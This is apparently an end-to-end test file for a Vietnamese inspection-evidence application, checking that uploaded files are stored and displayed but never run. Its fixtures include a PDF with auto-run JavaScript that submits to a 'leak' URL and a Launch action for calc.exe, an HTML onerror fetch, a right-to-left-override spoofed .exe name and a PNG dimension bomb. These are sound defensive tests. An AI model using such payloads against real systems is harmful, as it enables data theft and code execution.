import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { mkdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { expect, it } from 'vitest';
import { describeHosts, openApp, root } from './harness.ts';
import { axe, firstRun, openSample, PASSPHRASE } from './steps.ts';

const shots = join(root, 'tests/output/screens');
const folder = process.env.MINH_CHUNG_TEST_FOLDER ?? root;

/** A PDF that tries to run script, to open an address and to start a program as soon as it is shown. */
async function hostilePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([300, 300]);
  page.drawText('Hostile');
  const { context, catalog } = pdf;
  const script = context.obj({
    S: 'JavaScript',
    JS: PDFString.of('app.alert("x"); this.submitForm("http://127.0.0.1:9/leak");'),
  });
  catalog.set(PDFName.of('OpenAction'), script);
  catalog.set(PDFName.of('AA'), context.obj({ WC: script }));
  const link = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 300, 300],
    A: { S: 'URI', URI: PDFString.of('http://127.0.0.1:9/leak') },
  });
  const launch = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 300, 300],
    A: { S: 'Launch', F: PDFString.of('calc.exe') },
  });
  page.node.set(PDFName.of('Annots'), context.obj([link, launch]));
  return Buffer.from(await pdf.save());
}

/** A PNG whose header says 50,000 × 50,000 pixels. */
function pictureBomb(): Buffer {
  const header = Buffer.alloc(33);
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(header);
  header.writeUInt32BE(50_000, 16);
  header.writeUInt32BE(50_000, 20);
  Buffer.from('0806000000', 'hex').copy(header, 24);
  return Buffer.concat([header, Buffer.alloc(200)]);
}

describeHosts('Evidence as a careless or hostile world hands it over', kind => {
  it('takes odd files in, shows what can be shown, runs nothing', async () => {
    await mkdir(shots, { recursive: true });
    const app = await openApp(kind, { folder });
    const { page } = app;
    const input = page.locator('input[type=file]').first();
    const intake = async (files: { name: string; mimeType: string; buffer: Buffer }[], done: string) => {
      await input.setInputFiles(files);
      await page.getByRole('button', { name: 'Nhập vào hồ sơ' }).click();
      await page.getByText(done).first().waitFor({ timeout: 30_000 });
    };
    try {
      const calls: string[] = [];
      page.on('request', request => {
        if (/leak/.test(request.url())) calls.push(request.url());
      });
      await firstRun(page);
      await page.getByRole('button', { name: 'Tạo cuộc thanh tra' }).first().click();
      await page.getByRole('radio', { name: 'Không' }).check();
      await page.getByLabel('Người xác định (họ tên, chức vụ)').fill('Chánh Thanh tra');
      await page.getByLabel('Tên cuộc thanh tra, trích yếu').fill('Thanh tra thử tài liệu lạ');
      await page.getByRole('button', { name: 'Tạo hồ sơ' }).click();
      await page.getByRole('tab', { name: 'Tài liệu, chứng cứ' }).click();
      await intake(
        [
          { name: 'độc hại.pdf', mimeType: 'application/pdf', buffer: await hostilePdf() },
          { name: 'rỗng.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(0) },
          { name: 'bom ảnh.png', mimeType: 'image/png', buffer: pictureBomb() },
          { name: 'hỏng.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.7\nkhông phải PDF') },
          { name: '📎 Biên bản\u202efdp.exe', mimeType: 'application/octet-stream', buffer: Buffer.from('MZ gì đó') },
          {
            name: 'Quyết định.txt'.normalize('NFD'),
            mimeType: 'text/plain',
            buffer: Buffer.from('<script>alert(1)</script> chữ thường'),
          },
          {
            name: 'trang.html',
            mimeType: 'text/html',
            buffer: Buffer.from('<img src=x onerror="fetch(\'http://127.0.0.1:9/leak\')">'),
          },
        ],
        'Đã nhập 7/7 tệp vào hồ sơ',
      );
      const open = async (title: string) => {
        await page.getByRole('gridcell', { name: title }).dblclick();
        await page.waitForTimeout(900);
      };
      await open('độc hại.pdf');
      await page.getByText('TL 1, tr. 1').waitFor({ timeout: 20_000 });
      await page.locator('.viewer-page').first().click();
      await open('bom ảnh.png');
      await page.getByText('lớn bất thường').waitFor({ timeout: 20_000 });
      await open('hỏng.pdf');
      await page.getByText('Tệp PDF này hỏng').waitFor({ timeout: 20_000 });
      await open('rỗng.pdf');
      await page.getByText('Tệp rỗng (0 byte)').waitFor();
      await open('Quyết định.txt');
      await page.getByText('<script>alert(1)</script> chữ thường').waitFor();
      await open('trang.html');
      await page.getByText('onerror=').waitFor();
      // The character that turns the line around is not shown; the real ending is.
      await page.getByRole('gridcell', { name: '📎 Biên bảnfdp.exe' }).waitFor();
      await page.getByRole('button', { name: 'Kiểm tra toàn bộ tệp' }).click();
      await page.getByText('7/7 tệp còn nguyên vẹn').waitFor({ timeout: 30_000 });

      // A folder fifty levels deep.
      const deep = mkdtempSync(join(tmpdir(), 'sau-'));
      let at = deep;
      for (let level = 0; level < 50; level++) {
        at = join(at, `c${level}`);
        mkdirSync(at);
      }
      writeFileSync(join(at, 'đáy.txt'), 'ở tận đáy');
      await page.locator('input[type=file]').nth(1).setInputFiles(deep);
      await page.getByRole('button', { name: 'Nhập vào hồ sơ' }).click();
      await page.getByRole('gridcell', { name: 'đáy.txt' }).waitFor({ timeout: 30_000 });

      // A decrypted copy asks why and comes out whole.
      await open('Quyết định.txt');
      await page.getByRole('button', { name: 'Lưu bản giải mã' }).click();
      await page.getByLabel('Lý do').fill('Gửi giám định');
      await page.getByRole('button', { name: 'Chọn nơi lưu' }).click();
      const copy = await readFile(await app.savedFile(/\.txt$/), 'utf8');
      expect(copy).toContain('chữ thường');
      await page.getByText('Gửi giám định').waitFor({ timeout: 20_000 });

      expect(calls).toEqual([]);
      expect(app.problems).toEqual([]);
    } catch (error) {
      await page.screenshot({ path: join(shots, `${kind}-evidence-FAILED.png`) });
      console.error(app.problems);
      throw error;
    } finally {
      await app.close();
    }
  }, 240_000);

  it('shows a scan, its folio, the history and the sealed sources of the sample', async () => {
    const app = await openApp(kind, { folder });
    const { page } = app;
    const wrong: string[] = [];
    const looksFine = async (name: string) => {
      await page.screenshot({ path: join(shots, `${kind}-${name}.png`) });
      for (const each of await axe(page)) wrong.push(`${name}: ${each}`);
    };
    const more = page.getByRole('button', { name: 'Mục khác của hồ sơ' });
    try {
      await firstRun(page);
      await openSample(page);
      await page.getByRole('tab', { name: 'Tài liệu, chứng cứ' }).click();
      await page.getByRole('gridcell', { name: 'TL 11', exact: true }).dblclick();
      await page.getByText('BL 61', { exact: true }).first().waitFor({ timeout: 20_000 });
      await page.waitForTimeout(800);
      await looksFine('viewer');
      await page.getByRole('button', { name: 'Đánh số bút lục' }).click();
      await page.getByText('Số bút lục đã chốt').waitFor();
      await looksFine('folios');
      await page.keyboard.press('Escape');
      await more.click();
      await page.getByRole('menuitem', { name: 'Lịch sử thao tác' }).click();
      await page.getByRole('button', { name: 'Xác minh lịch sử' }).click();
      await page.getByText('chuỗi và chữ ký đều khớp').waitFor({ timeout: 30_000 });
      await looksFine('history');
      // By kind, then by one object: only the acts about it stay.
      await page.getByRole('combobox', { name: 'Loại nội dung' }).click();
      await page.getByRole('option', { name: 'Văn bản', exact: true }).click();
      await page.getByRole('combobox', { name: 'Mục cụ thể' }).click();
      await page.getByRole('option', { name: /Kết luận thanh tra/ }).click();
      await page.getByText(/^[1-9] mục$/).waitFor();
      await looksFine('history-of-one');
      await more.click();
      await page.getByRole('menuitem', { name: /niêm phong/i }).click();
      await page.getByLabel('Cụm mật khẩu').fill('không đúng');
      await page.getByRole('button', { name: 'Mở khoang' }).click();
      await page.getByRole('alert').waitFor({ timeout: 30_000 });
      await page.getByLabel('Cụm mật khẩu').fill(PASSPHRASE);
      await page.getByRole('button', { name: 'Mở khoang' }).click();
      await page.getByText('Đơn tố cáo viết tay').waitFor({ timeout: 30_000 });
      await looksFine('sources');
      expect(wrong).toEqual([]);
      expect(app.problems).toEqual([]);
    } catch (error) {
      await page.screenshot({ path: join(shots, `${kind}-evidence-FAILED.png`) });
      console.error(app.problems);
      throw error;
    } finally {
      await app.close();
    }
  }, 240_000);
});
